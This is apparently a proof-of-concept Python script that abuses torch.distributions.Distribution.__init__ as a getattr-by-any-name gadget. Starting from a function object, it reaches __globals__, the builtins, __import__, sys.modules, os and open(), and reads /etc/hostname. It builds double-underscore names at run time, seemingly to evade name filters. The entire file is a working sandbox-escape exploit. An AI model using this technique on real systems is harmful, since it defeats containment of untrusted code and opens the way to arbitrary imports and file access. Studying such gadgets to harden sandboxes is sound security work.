"""torch.distributions.Distribution.__init__ called unbound on any object with validate_args=True runs getattr(obj, name) for each name in obj.arg_constraints (names made at run time) and hands the value to the file's own constraint.check: a getattr by any name, reaching __globals__, the builtins, __import__, sys.modules and open."""
import torch

u = "_" * 2


class Got(Exception):
    pass


class Grab:
    def check(self, value):
        raise Got(value)


def grab(obj, name):
    obj.arg_constraints = {name: Grab()}
    try:
        torch.distributions.Distribution.__init__(obj, validate_args=True)
    except Got as got:
        return got.args[0]


def probe():
    return None


builtins_ = grab(probe, u + "globals" + u)[u + "builtins" + u]
imp = builtins_[u + "import" + u] if isinstance(builtins_, dict) else grab(builtins_, u + "import" + u)
sys_module = imp("sys")
print("sys.modules:", len(grab(sys_module, "modules")), "entries; os:", imp("os"))
opener = builtins_["open"] if isinstance(builtins_, dict) else grab(builtins_, "open")
print("open:", opener("/etc/hostname").read().strip())
